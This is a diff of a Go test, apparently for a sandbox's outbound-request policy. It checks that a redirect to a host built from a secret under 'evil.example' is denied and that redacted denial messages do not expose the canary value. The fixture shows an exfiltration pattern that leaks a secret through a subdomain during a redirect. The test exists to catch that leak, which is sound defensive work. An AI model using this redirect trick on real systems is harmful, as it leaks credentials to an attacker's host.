@@ -100,11 +100,13 @@ func TestRedirectToAHostMadeOfASecret(t *testing.T) {
 	s := server(t, func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, "http://"+r.Header.Get("X")+".evil.example/", http.StatusFound)
 	})
-	r := start(t, setup{rules: rules(t, manifest.HTTP, "GET "+s.URL), url: s.URL + "/" + canary})
+	r := start(t, setup{rules: rules(t, manifest.HTTP, "GET "+s.URL), url: s.URL + "/" + canary, bound: true})
 	_, err := r.HTTP(within(t, 5*time.Second), &Request{Method: "GET", URL: s.URL, Redirects: 1, Header: []Field{{"X", strings.TrimPrefix(r.url, s.URL+"/")}}})
 	wantsDenial(t, r, err)
-	if strings.Contains(strings.ToLower(err.Error()), strings.ToLower(canary)) {
-		t.Error(err)
+	for _, told := range r.denied {
+		if told = r.vault.Redact(told); strings.Contains(strings.ToLower(told), strings.ToLower(canary)) {
+			t.Error(told)
+		}
 	}
 }
 
